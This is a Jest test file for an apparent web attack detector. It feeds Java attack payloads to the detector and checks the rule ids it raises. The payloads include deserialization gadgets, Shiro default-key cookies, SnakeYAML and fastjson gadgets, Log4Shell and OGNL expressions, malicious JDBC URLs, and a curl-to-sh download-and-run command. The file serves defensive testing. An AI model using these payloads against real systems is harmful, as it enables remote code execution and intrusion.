import { createCipheriv, randomBytes } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { createAnalysisEngine, type MatchEventRecord } from '@/runtime/analyzer/engine';
import { InspectedValue, inspectValue } from '@/runtime/analyzer/engine/detection';
import { Detector } from '@/runtime/analyzer/engine/detection/detector';
import { resolveLimits } from '@/runtime/analyzer/engine/limits';
import { viewRequest } from '@/runtime/analyzer/engine/message-view';
import { gunzipBase64Start, gunzipStart, lookupForm } from '@/runtime/analyzer/engine/detection/decode';
import type { ValueLocation } from '@/runtime/analyzer/engine/detection/types';
import { buildExchange } from '@/test/fixtures/traffic';

const context = { sensorId: 'sensor-1', sensorTags: [] };
/** The rules a value matches, as `id`. */
const idsOf = (value: string, location: ValueLocation = 'query', name = 'q'): number[] =>
  inspectValue(new InspectedValue(location, name, value)).map((r) => r.id);

/** The rule ids of the MatchEvent a request raises at level 1 (none: []). */
function alertIds(spec: Parameters<typeof buildExchange>[0]): number[] {
  const events = createAnalysisEngine({ catalog: false, detectionLevel: 1 }).analyze(buildExchange(spec), context);
  const match = events.find((e): e is MatchEventRecord => e.msg_type === 'MatchEvent');
  return match ? match.matches.map((m) => m.id) : [];
}

/** A minimal Java serialization stream: magic, version, one class descriptor. */
function javaStream(className: string): Buffer {
  const name = Buffer.from(className);
  return Buffer.concat([
    Buffer.from([0xac, 0xed, 0x00, 0x05, 0x73, 0x72, name.length >> 8, name.length & 255]),
    name,
    Buffer.from([1, 2, 3, 4, 5, 6, 7, 8, 2, 0, 0, 0x78, 0x70]),
  ]);
}

describe('Java: compiled classes sent as data', () => {
  /** A class file's head: magic, minor 0, major (52 is Java 8), a constant-pool count and entries. */
  const classFile = (major: number) =>
    Buffer.concat([Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, major, 0, 0x32]), Buffer.from('\x0a\x00\x08\x00\x19\x01\x00\x06<init>', 'latin1')]);

  it.each([52, 61, 65])('a base64 class (major %i) posted to a planted loader, and the same in hex', (major) => {
    const form = (value: string) => ({
      method: 'POST',
      target: '/static/images/404.jsp',
      requestHeaders: [['Content-Type', 'application/x-www-form-urlencoded']] as Array<[string, string]>,
      requestBody: `pass=${encodeURIComponent(value)}`,
    });
    expect(alertIds(form(classFile(major).toString('base64')))).toContain(420117);
    expect(idsOf(classFile(major).toString('hex'), 'body_json', 'bytecode')).toContain(420117);
  });

  it('reads Runtime.exec reached by its simple name, as Groovy, Kotlin and JSR-223 scripts write it', () => {
    expect(idsOf('Runtime.getRuntime().exec(arrayOf("sh", "-c", "id > /tmp/k")).waitFor()', 'body_json', 'formula')).toContain(420102);
    expect(idsOf('Runtime.getRuntime().availableProcessors()', 'body_json', 'formula')).toEqual([]);
  });

  it('leaves the magic as a word, a hex id and base64 of other data alone', () => {
    for (const value of ['0xCAFEBABE is the class-file magic', 'cafebabe-1234', 'deadbeefcafebabe', Buffer.from('yv66 is base64 of it').toString('base64')])
      expect({ value, ids: idsOf(value) }).toEqual({ value, ids: [] });
  });
});

describe('Java: serialization streams in bodies and compressed fields', () => {
  const stream = javaStream('org.apache.commons.collections.functors.InvokerTransformer');

  it.each([['application/x-java-serialized-object'], ['application/octet-stream'], ['application/json'], ['']])('a raw stream body labelled %j', (type) => {
    const headers: Array<[string, string]> = type === '' ? [] : [['Content-Type', type]];
    expect(alertIds({ method: 'POST', target: '/invoker/JMXInvokerServlet', requestHeaders: headers, requestBody: stream })).toContain(420101);
  });

  it('a gzip-compressed stream body, and a gzip+base64 field (JSF ViewState)', () => {
    expect(
      alertIds({ method: 'POST', target: '/invoker/readonly', requestHeaders: [['Content-Type', 'application/octet-stream']], requestBody: gzipSync(stream) }),
    ).toContain(420101);
    const viewState = encodeURIComponent(gzipSync(stream).toString('base64'));
    const body = `j_idt12=j_idt12&javax.faces.ViewState=${viewState}`;
    expect(
      alertIds({ method: 'POST', target: '/faces/login.xhtml', requestHeaders: [['Content-Type', 'application/x-www-form-urlencoded']], requestBody: body }),
    ).toContain(420101);
  });

  it('leaves other binary and compressed bodies and fields alone', () => {
    const png = Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex');
    expect(alertIds({ method: 'POST', target: '/upload', requestHeaders: [['Content-Type', 'application/octet-stream']], requestBody: png })).toEqual([]);
    expect(
      alertIds({ method: 'POST', target: '/upload', requestHeaders: [['Content-Type', 'application/octet-stream']], requestBody: gzipSync('{"a":1}') }),
    ).toEqual([]);
    const state = encodeURIComponent(gzipSync(JSON.stringify({ cart: [{ sku: 'A-1', qty: 2 }] })).toString('base64'));
    expect(
      alertIds({
        method: 'POST',
        target: '/faces/x.xhtml',
        requestHeaders: [['Content-Type', 'application/x-www-form-urlencoded']],
        requestBody: `s=${state}`,
      }),
    ).toEqual([]);
    expect(
      alertIds({
        method: 'POST',
        target: '/faces/x.xhtml',
        requestHeaders: [['Content-Type', 'application/x-www-form-urlencoded']],
        requestBody: 'javax.faces.ViewState=-4275390466372437580%3A6139185413391263437',
      }),
    ).toEqual([]);
  });

  it('inflates a bounded start of a gzip stream, and no compression bomb', () => {
    expect(gunzipStart(gzipSync(stream))?.subarray(0, 4)).toEqual(Buffer.from([0xac, 0xed, 0x00, 0x05]));
    expect(gunzipStart(gzipSync(Buffer.alloc(5_000_000)))).toBeUndefined();
    expect(gunzipBase64Start('H4sI-not-base64-gzip')).toBeUndefined();
    expect(gunzipStart(Buffer.from('not gzip at all'))).toBeUndefined();
  });
});

describe("Java: Shiro rememberMe cookies encrypted under Shiro's default key", () => {
  const key = Buffer.from('kPH+bIxk5D2deZiIxcaaaA==', 'base64');
  const iv = Buffer.alloc(16, 7);
  const cbc = (plain: Buffer, k = key): string => {
    const cipher = createCipheriv('aes-128-cbc', k, iv);
    return Buffer.concat([iv, cipher.update(plain), cipher.final()]).toString('base64');
  };
  const gcm = (plain: Buffer): string => {
    const cipher = createCipheriv('aes-128-gcm', key, iv);
    const body = Buffer.concat([cipher.update(plain), cipher.final()]);
    return Buffer.concat([iv, body, cipher.getAuthTag()]).toString('base64');
  };
  const cookie = (name: string, value: string): number[] => alertIds({ target: '/admin/index', requestHeaders: [['Cookie', `${name}=${value}`]] });

  it('reads a cookie that decrypts to an object other than a principal collection (CBC and GCM)', () => {
    expect(cookie('rememberMe', cbc(javaStream('java.util.HashMap')))).toContain(420115);
    expect(cookie('rememberMe', gcm(javaStream('java.util.PriorityQueue')))).toContain(420115);
    expect(cookie('rememberMe', encodeURIComponent(cbc(javaStream('java.util.HashMap'))))).toContain(420115);
  });

  it("leaves what Shiro writes, other keys' cookies and other cookies alone", () => {
    expect(cookie('rememberMe', cbc(javaStream('org.apache.shiro.subject.SimplePrincipalCollection')))).toEqual([]);
    expect(cookie('rememberMe', cbc(javaStream('java.util.HashMap'), Buffer.alloc(16, 1)))).toEqual([]);
    expect(cookie('rememberMe', randomBytes(96).toString('base64'))).toEqual([]);
    expect(cookie('rememberMe', 'deleteMe')).toEqual([]);
    expect(idsOf(cbc(javaStream('java.util.HashMap')), 'cookie', 'session')).not.toContain(420115);
  });
});

describe('Java: SnakeYAML tags, fastjson type hints, Groovy commands', () => {
  it('reads a YAML body and its tags naming JDK or gadget-library classes', () => {
    const yaml = '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://198.51.100.2/p.jar"]]]]';
    expect(alertIds({ method: 'POST', target: '/api/config', requestHeaders: [['Content-Type', 'application/x-yaml']], requestBody: yaml })).toContain(420110);
    expect(idsOf('!<tag:yaml.org,2002:java.net.URL> ["http://x.example.net/"]')).toContain(420110);
    expect(idsOf('!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: "ldap://x/a", autoCommit: true}')).toContain(420110);
    // YAML's own tags, and an application's own classes
    expect(idsOf('tags: !!set {a, b}\ncount: !!int "3"')).toEqual([]);
    expect(idsOf('!!com.example.shop.Order {id: 12}')).toEqual([]);
  });

  it('a parsed JSON body: a type hint key whose value names a JDK class (fastjson DNS probes)', () => {
    for (const cls of ['java.net.Inet4Address', 'java.net.Inet6Address', 'java.net.URL']) {
      const body = JSON.stringify({ comment: 'ok', meta: { '@type': cls, val: 'fj.example.net' } });
      expect(alertIds({ method: 'POST', target: '/api/feedback', requestHeaders: [['Content-Type', 'application/json']], requestBody: body })).toContain(
        420106,
      );
    }
    expect(idsOf('java.net.Inet4Address', 'body_json', 'meta.@type')).toEqual([420106]);
    expect(idsOf('Product', 'body_json', '@type')).toEqual([]);
    expect(idsOf('java.net.Inet4Address', 'body_json', 'meta.kind')).toEqual([]);
  });

  it.each([
    "throw new Exception('id'.execute().text);",
    'public class x{public x(){"touch /tmp/jk".execute()}}',
    '["sh", "-c", "id"].execute()',
    "@GrabConfig(disableChecksums=true)\n@GrabResolver(name='x', root='http://198.51.100.3/')\n@Grab(group='x', module='y', version='1')",
  ])('Groovy %s alerts at level 1', (payload) => {
    expect(idsOf(payload)).toContain(420111);
  });

  it('a method named execute on an object is not Groovy on a string', () => {
    expect(idsOf("db.execute('SELECT 1')")).toEqual([]);
    expect(idsOf('commands[i].execute()')).toEqual([]);
  });
});

describe('Java: expressions and lookups', () => {
  it('an OGNL or EL arithmetic probe in parentheses or in %{}, also as a path segment (S2-057)', () => {
    expect(idsOf('${(111+111)}')).toContain(700101);
    expect(idsOf('%{(7*7)}')).toContain(700101);
    expect(alertIds({ target: '/struts2-showcase/%24%7B%28111%2B111%29%7D/actionChain1.action' })).toContain(700101);
  });

  it("EL 3.0's time-based probe: java.lang classes by their simple name (`${Thread.sleep(5000)}`)", () => {
    expect(idsOf('${Thread.sleep(5000)}', 'body_json', 'studentName')).toContain(420104);
    expect(idsOf('#{ Thread . sleep(5000) }')).toContain(420104);
    expect(idsOf('Thread.sleep(5000) keeps the worker waiting')).toEqual([]);
  });

  it('resolves date lookups whose pattern is quoted text or punctuation (Log4Shell)', () => {
    expect(lookupForm("${jn${date:}di${date:':'}ldap://x/a}")).toBe('${jndi:ldap://x/a}');
    expect(lookupForm('${jndi${date::}ldap://x/a}')).toBe('${jndi:ldap://x/a}');
    expect(lookupForm("${date:'j''n'}")).toBe('jn');
    // Letters outside quotes are date fields: what they format to depends on the day.
    expect(lookupForm('${date:yyyy}')).toBe('${date:yyyy}');
    expect(alertIds({ target: '/', requestHeaders: [['X-Forwarded-Host', "${jn${date:}di${date:':'}ldap://dt.example.net/a}"]] })).toContain(800101);
  });

  it('Spring4Shell in bracket syntax, and a short probe whose name reads as an ordinary one', () => {
    expect(idsOf('class[module][classLoader][resources][context][parent][pipeline][first][pattern]', 'body_form_name')).toContain(420105);
    expect(alertIds({ target: '/?class.module.classLoader.URLs%5B0%5D=0' })).toContain(420105);
    expect(alertIds({ target: '/?user.class=premium&item.classification=a' })).toEqual([]);
  });

  it('OGNL by its own syntax: static members as @package.Class@member, chained context variables', () => {
    const confluence = '${(#a="x"+"a").(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-Cmd",#a))}';
    expect(alertIds({ target: `/${encodeURIComponent(confluence)}/` })).toContain(420112);
    expect(idsOf('(#ctx=#attr.x).(#ctx.y)')).toContain(420112);
    expect(idsOf("@java.lang.Runtime@getRuntime().exec('id')")).toContain(420112);
    expect(idsOf('mail john.doe@example.com or jane@corp.example.org')).toEqual([]);
  });

  it('JNDI lookup targets, XMLDecoder documents and repackaged Spring contexts (WebLogic, vCenter)', () => {
    for (const value of ['rmi://203.0.113.5:1099/Exploit', 'iiop://203.0.113.5:1050/x', 'corbaname:iiop:1.2@203.0.113.5:2809#x'])
      expect({ value, ids: idsOf(value) }).toEqual({ value, ids: [420113] });
    expect(idsOf('<java version="1.8" class="java.beans.XMLDecoder"><object class="java.util.ArrayList"/></java>', 'body_xml')).toContain(420113);
    expect(idsOf('com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext')).toContain(420102);
    expect(idsOf('firmware://update')).toEqual([]);
    expect(idsOf('<java>17</java><maven>3.9</maven>', 'body_xml')).toEqual([]);
  });

  it('java.net.URL opened from input (Spring Cloud Function routing expressions)', () => {
    expect(
      alertIds({
        method: 'POST',
        target: '/functionRouter',
        requestHeaders: [['spring.cloud.function.routing-expression', 'new java.net.URL("http://x.example").openStream()']],
        requestBody: 'data',
      }),
    ).toContain(420102);
    expect(idsOf('java.net.URLEncoder.encode(q, "UTF-8")')).toEqual([]);
  });

  it('a class named among words is read about, not asked for', () => {
    expect(idsOf('java.lang.Runtime exec example')).toEqual([]);
    expect(idsOf('difference between java.lang.ProcessBuilder and Runtime')).toEqual([]);
    expect(idsOf('java.lang.Runtime')).toEqual([420102]);
    // Groovy and Java scripts import java.lang: a process built by its simple name (a Groovy filter, CVE-2023-52251).
    expect(idsOf('new ProcessBuilder("sh","-c","curl http://198.51.100.24/k.sh|sh").start()')).toContain(420102);
    expect(idsOf('ProcessBuilder vs Runtime.exec')).toEqual([]);
    expect(idsOf('org.apache.commons.collections.functors.InvokerTransformer')).toEqual([420102]);
  });
});

describe('Java: JMX operations through Jolokia that load configuration or code', () => {
  const hits = (spec: Parameters<typeof buildExchange>[0]): number[] =>
    new Detector().detect(viewRequest(buildExchange(spec), resolveLimits(undefined))).hits.map((h) => h.rule.id);

  it("reads logback's reloadByURL and the MLet loader, in a Jolokia URL or a JSON request", () => {
    expect(
      hits({
        target: '/jolokia/exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator/reloadByURL/http:!/!/203.0.113.9!/x.xml',
      }),
    ).toContain(420114);
    const body = JSON.stringify({
      type: 'EXEC',
      mbean: 'ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator',
      operation: 'reloadByURL',
      arguments: ['http://203.0.113.9/logback.xml'],
    });
    expect(hits({ method: 'POST', target: '/actuator/jolokia', requestHeaders: [['Content-Type', 'application/json']], requestBody: body })).toContain(420114);
    const mlet = JSON.stringify({ type: 'exec', mbean: 'DefaultDomain:type=MLet', operation: 'getMBeansFromURL', arguments: ['http://203.0.113.9/mlet'] });
    expect(hits({ method: 'POST', target: '/jolokia', requestHeaders: [['Content-Type', 'application/json']], requestBody: mlet })).toContain(420114);
  });

  it('leaves attribute reads and a document naming the operation alone', () => {
    expect(hits({ target: '/jolokia/read/java.lang:type=Memory/HeapMemoryUsage' })).toEqual([]);
    const read = JSON.stringify({ type: 'read', mbean: 'java.lang:type=Threading', attribute: 'ThreadCount' });
    expect(hits({ method: 'POST', target: '/jolokia', requestHeaders: [['Content-Type', 'application/json']], requestBody: read })).toEqual([]);
    expect(hits({ target: '/search?q=logback+reloadByURL+example' })).toEqual([]);
  });
});

describe('Java: JDBC connection strings that act at connect', () => {
  it('reads H2 INIT scripts and aliases, MySQL autoDeserialize, pgjdbc factories and log files, DB2 JNDI reroute', () => {
    for (const url of [
      "mem:x;INIT=RUNSCRIPT FROM 'http://203.0.113.223/evil.sql'",
      "jdbc:h2:mem:test;TRACE_LEVEL_SYSTEM_OUT=3;INIT=CREATE ALIAS EXEC AS 'String e(String c) throws Exception { return c; }'",
      'jdbc:mysql://203.0.113.9:3306/test?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor',
      'jdbc:postgresql://db/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://203.0.113.9/b.xml',
      'jdbc:postgresql://db/x?loggerLevel=DEBUG&loggerFile=../webapps/ROOT/shell.jsp',
      'jdbc:postgresql://db/x?socketFactory=java.io.FileOutputStream&socketFactoryArg=/var/www/html/x.jsp',
      'jdbc:db2://db:50000/BLUDB:clientRerouteServerListJNDIName=ldap://203.0.113.9:1389/a;',
    ])
      expect({ url, ids: idsOf(url, 'body_json', 'url') }).toEqual({ url, ids: expect.arrayContaining([420116]) });
    for (const url of [
      'jdbc:h2:file:/var/lib/app/db;MODE=PostgreSQL;DB_CLOSE_DELAY=-1',
      "jdbc:h2:mem:test;INIT=RUNSCRIPT FROM 'classpath-data.sql'",
      'jdbc:mysql://db:3306/shop?useSSL=true&serverTimezone=UTC',
      'jdbc:postgresql://db/x?sslfactory=org.postgresql.ssl.DefaultJavaSSLFactory',
      'jdbc:postgresql://db/x?ssl=true&sslfactory=javax.net.ssl.SSLSocketFactory',
    ])
      expect({ url, ids: idsOf(url, 'body_json', 'url').filter((id) => id === 420116) }).toEqual({ url, ids: [] });
  });
});

describe('crash reports: classes that ran are not classes asked for', () => {
  const frame = (module: string, fn: string, file: string) => ({ module, function: fn, filename: file, lineno: 42, in_app: false });
  const sentryEvent = (frames: object[]) =>
    JSON.stringify({ platform: 'java', exception: { values: [{ type: 'IllegalStateException', stacktrace: { frames } }] } });

  it('leaves the frames of a crash reporter’s JSON alone, as it leaves `at …(X.java:1)` lines', () => {
    const frames = [
      frame('java.lang.Thread', 'run', 'Thread.java'),
      frame('java.lang.reflect.Method', 'invoke', 'Method.java'),
      frame('com.shop.App', 'main', 'App.kt'),
    ];
    expect(idsOf(sentryEvent(frames), 'body', 'body')).not.toContain(420102);
    expect(
      idsOf(
        'java.lang.IllegalStateException\n\tat java.lang.reflect.Method.invoke(Method.java:580)\n\tat java.lang.Thread.run(Thread.java:1012)',
        'body',
        'body',
      ),
    ).not.toContain(420102);
  });

  it('still reads a class named outside the frames, and frames without a source file are no frames', () => {
    const withGadget = JSON.stringify({ frames: [frame('java.lang.Thread', 'run', 'Thread.java')], note: 'java.lang.Runtime' });
    expect(idsOf(withGadget, 'body', 'body')).toContain(420102);
    expect(idsOf(JSON.stringify({ module: 'java.lang.reflect.Method', function: 'invoke' }), 'body', 'body')).toContain(420102);
  });
});
